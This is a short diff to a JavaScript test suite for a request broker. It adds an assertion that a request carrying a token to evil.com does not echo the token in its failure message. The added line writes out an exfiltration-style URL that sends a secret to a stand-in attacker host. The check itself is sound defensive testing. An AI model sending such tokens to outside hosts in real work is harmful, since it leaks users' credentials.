@@ -104,6 +104,7 @@ describe("broker", () => {
         /repeats a credential/,
       );
       assert.equal(wire.requests.length, 2);
+      assert.doesNotMatch(failure(await send({ url: to(`https://evil.com/?t=${TOKEN}`) })), new RegExp(TOKEN));
       wire.requests.length = 0;
       wire.answer = ({ path }, response) =>
         void (path.startsWith("/end/") ? response.end() : response.writeHead(301, { location: path.replace("/end", "/end/") }).end());
